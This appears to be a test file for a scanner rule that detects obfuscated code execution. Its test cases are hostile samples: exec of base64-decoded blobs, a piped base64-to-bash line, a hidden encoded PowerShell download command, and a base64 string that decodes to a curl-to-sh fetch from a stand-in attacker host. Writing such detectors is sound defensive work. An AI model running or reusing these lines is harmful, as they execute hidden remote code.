import { test } from 'node:test';
import assert from 'node:assert/strict';
import { highFindings, runRule } from '../../../test/helpers/rule-harness.js';
import { sc3 } from './sc3-obfuscated-execution.js';

const high = (path: string, text: string) => highFindings(runRule(sc3, { path, text }));
const B64 = 'aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2N1cmwgaHR0cHM6Ly9ldmlsLmV4YW1wbGUveCB8IHNoJyk'.repeat(4);

test('SC3 fires on exec of base64-decoded data', () => {
  const f = runRule(sc3, { path: 'scripts/run.py', text: 'import base64\nexec(base64.b64decode(PAYLOAD))\n' });
  assert.equal(f.length, 1);
  assert.equal(f[0]?.rule.id, 'SC3');
  assert.equal(f[0]?.startLine, 2);
  assert.equal(f[0]?.severity, 'HIGH');
});

test('SC3 fires on each obfuscation form', () => {
  const cases: [string, string][] = [
    ['a.py', 'exec(zlib.decompress(base64.b64decode(blob)))'],
    ['a.py', 'exec(marshal.loads(data))'],
    ['a.py', 'eval(compile(bytes.fromhex(h), "<x>", "exec"))'],
    ['a.py', "__import__('os').system('id')"],
    ['a.js', 'eval(atob(payload));'],
    ['a.js', "new Function(Buffer.from(s, 'base64').toString())();"],
    ['a.js', 'var _0x3f2a=["log"];console[_0x1b2c(0x0)]("x");'],
    ['a.sh', 'echo ZWNobyBoaQ== | base64 -d | bash'],
    ['a.sh', 'eval "$(echo ZWNobyBoaQ== | base64 --decode)"'],
    ['a.ps1', 'powershell -NoP -W Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAA=='],
    ['a.py', `blob = "${B64}"`],
  ];
  for (const [path, text] of cases) assert.equal(high(path, text).length, 1, `${path}: ${text}`);
});

test('SC3 ignores prose files and benign decoding', () => {
  assert.equal(runRule(sc3, { path: 'README.md', text: 'Attackers use exec(base64.b64decode(x)) to hide code.\n' }).length, 0);
  for (const [path, text] of [
    ['a.py', 'data = json.loads(base64.b64decode(blob))'],
    ['a.py', 'digest = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"'],
    ['a.js', 'const img = "data:image/png;base64,iVBORw0KGgo";'],
    ['a.py', `filler = "${'a'.repeat(300)}"`],
    ['a.js', 'const text = Buffer.from(body, "base64").toString("utf8");'],
  ] as const) assert.equal(high(path, text).length, 0, `${path}: ${text}`);
});

test('SC3 downgrades test fixtures and negated mentions', () => {
  assert.equal(high('tests/fixtures/sample.py', 'exec(base64.b64decode(PAYLOAD))\n').length, 0);
  assert.equal(high('check.py', '# never call exec(base64.b64decode(x)) on input\n').length, 0);
});
